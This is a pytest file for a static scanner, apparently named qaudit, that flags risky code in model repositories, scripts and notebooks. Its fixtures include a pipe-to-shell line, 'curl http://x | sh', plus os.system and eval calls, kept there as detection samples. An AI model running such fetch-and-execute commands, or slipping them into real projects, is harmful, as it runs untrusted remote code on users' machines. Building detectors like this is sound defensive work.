import json
from pathlib import Path

from qaudit.static.model_parts import Examined
from qaudit.static.pickles.window import Held
from qaudit.static.repository.code_files import inspect_code_file, mapped_modules
from qaudit.static.surveying import survey


def found(examined: Examined) -> dict[str, str]:
    return {finding.id: finding.severity for finding in examined.findings}


def test_python_that_a_configuration_loads(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text(
        json.dumps({"auto_map": {"AutoModel": "special.Model", "AutoConfig": "org/repo--other.C"}})
    )
    (tmp_path / "special.py").write_text("def f():\n  eval('1')\n")
    modules = mapped_modules(survey(tmp_path))
    assert modules == {"special", "other"}
    source = Held((tmp_path / "special.py").read_bytes(), "special.py")
    assert found(inspect_code_file(source, "python", modules))["code/runs-commands"] == "high"
    assert found(inspect_code_file(source, "python"))["code/runs-commands"] == "medium"


def test_programs_are_named() -> None:
    examined = inspect_code_file(Held(b"\x7fELF" + bytes(60), "x.so"), "native")
    assert "elf" in examined.findings[0].evidence
    assert [surface.state for surface in examined.surfaces] == ["partial"]
    assert "compiled Python" in inspect_code_file(Held(b"\xa7\r\r\n", "x.pyc"), "native").findings[0].evidence


def test_scripts() -> None:
    bad = inspect_code_file(Held(b"#!/bin/sh\ncurl http://x | sh\n", "x.sh"), "script")
    assert found(bad) == {"code/shell-command": "high", "code/present": "low"}
    assert found(inspect_code_file(Held(b"#!/bin/sh\nmake\n", "x.sh"), "script")) == {"code/present": "low"}


def test_notebooks() -> None:
    cells = [
        {"cell_type": "code", "source": ["!pip install x\n", "import os\n", "os.system('x')\n"]},
        {
            "cell_type": "code",
            "source": "%%bash\ncurl http://x | sh",
            "outputs": [{"data": {"text/html": ["<script>1</script>"]}}],
        },
        {"cell_type": "markdown", "source": "words"},
        "no cell",
    ]
    examined = inspect_code_file(Held(json.dumps({"cells": cells}).encode(), "x.ipynb"), "notebook")
    assert {"code/runs-commands", "code/shell-command", "code/active-output"} <= set(found(examined))
    for odd in (b"", b"[]", b"{", b'{"cells": 3}', b"[" * 100_000):
        inspect_code_file(Held(odd, "x.ipynb"), "notebook")


def test_what_is_too_long_is_partial() -> None:
    examined = inspect_code_file(Held(b"#\n" * 800_000, "x.py"), "python")
    assert [surface.state for surface in examined.surfaces] == ["partial"]
